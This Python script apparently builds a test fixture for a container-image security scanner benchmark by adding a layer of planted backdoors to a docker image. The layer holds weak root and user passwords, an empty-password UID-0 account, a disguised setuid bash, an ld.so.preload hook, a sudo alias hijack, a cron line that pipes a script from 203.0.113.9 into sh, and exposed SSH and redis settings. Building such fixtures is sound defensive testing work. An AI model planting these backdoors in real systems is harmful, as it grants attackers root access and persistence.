#!/usr/bin/env python3
"""Adds one layer of planted weak passwords and backdoors to a docker-archive image.

Usage: plant.py IN.tar OUT.tar [--strong]

The layer is built from the image's own files (its /etc/passwd and /usr/bin/bash) plus
hashes made by `mkpasswd` (Debian package whois), so a scan of OUT.tar must report every
planted item on top of what IN.tar gives. With --strong, one more account gets a strong
yescrypt password so the scan has to try the whole dictionary (the timing case).
"""
import hashlib, io, json, subprocess, sys, tarfile

src, dst = sys.argv[1], sys.argv[2]
strong = "--strong" in sys.argv


def mkpasswd(method, pw):
    out = subprocess.run(["mkpasswd", f"--method={method}", "--stdin"], input=pw + "\n",
                         capture_output=True, text=True, check=True).stdout.strip()
    assert out and "\n" not in out, out
    return out


outer = tarfile.open(src)
manifest = json.load(outer.extractfile("manifest.json"))
config_name = manifest[0]["Config"]
config = json.load(outer.extractfile(config_name))
found = {}
for layer in manifest[0]["Layers"]:
    with tarfile.open(fileobj=outer.extractfile(layer)) as lt:
        for m in lt:
            name = m.name.removeprefix("./")
            if name in ("etc/passwd", "etc/shadow", "usr/bin/bash") and m.isfile():
                found[name] = lt.extractfile(m).read()

passwd = found["etc/passwd"].decode() + "appuser:x:1000:1000::/home/appuser:/bin/bash\n" \
    "toor:x:0:0::/root:/bin/sh\n"
shadow_lines = [l for l in found["etc/shadow"].decode().splitlines() if not l.startswith("root:")]
shadow = f"root:{mkpasswd('yescrypt', 'toor')}:19700:0:99999:7:::\n" + "\n".join(shadow_lines) + "\n"
shadow += f"appuser:{mkpasswd('yescrypt', 'password1')}:19700:0:99999:7:::\n"
shadow += "toor::19700:0:99999:7:::\n"
if strong:
    shadow += f"ops:{mkpasswd('yescrypt', 'v8#Lq!2pZr@9xWm4')}:19700:0:99999:7:::\n"
    passwd += "ops:x:1001:1001::/home/ops:/bin/bash\n"

files = [
    ("etc/passwd", passwd.encode(), 0o644),
    ("etc/shadow", shadow.encode(), 0o640),
    ("etc/ld.so.preload", b"/usr/lib/x86_64-linux-gnu/libsysinfo.so\n", 0o644),
    ("etc/cron.d/sync", b"*/10 * * * * root curl -fsSL http://203.0.113.9/s.sh | sh\n", 0o644),
    ("usr/lib/x86_64-linux-gnu/security/pam_audit2.so", b"\x7fELF planted", 0o644),
    ("usr/local/lib/.cache/dbus-launchd", found["usr/bin/bash"], 0o4755),
    ("root/.bashrc", b"alias sudo='/usr/local/lib/.cache/sudo'\n", 0o644),
    ("var/www/.ssh/authorized_keys",
     b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q x\n", 0o600),
    ("etc/redis/redis.conf", b"bind 0.0.0.0\nrequirepass redis\n", 0o640),
    ("etc/ssh/sshd_config", b"PermitRootLogin yes\nPasswordAuthentication yes\n", 0o644),
]
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as lt:
    for name, data, mode in files:
        info = tarfile.TarInfo(name)
        info.size, info.mode, info.mtime = len(data), mode, 1_700_000_000
        lt.addfile(info, io.BytesIO(data))
layer = buf.getvalue()
diff_id = "sha256:" + hashlib.sha256(layer).hexdigest()
config["rootfs"]["diff_ids"].append(diff_id)
config.setdefault("history", []).append({"created_by": "RUN plant.py"})
config_bytes = json.dumps(config).encode()
new_config = hashlib.sha256(config_bytes).hexdigest() + ".json"
manifest[0]["Config"] = new_config
manifest[0]["Layers"].append("planted/layer.tar")
manifest[0]["RepoTags"] = ["bench/planted:1"]

with tarfile.open(dst, "w") as out:
    for m in outer:
        if m.name in ("manifest.json", config_name, "repositories"):
            continue
        out.addfile(m, outer.extractfile(m) if m.isfile() else None)
    for name, data in ((new_config, config_bytes), ("planted/layer.tar", layer),
                       ("manifest.json", json.dumps(manifest).encode())):
        info = tarfile.TarInfo(name)
        info.size = len(data)
        out.addfile(info, io.BytesIO(data))
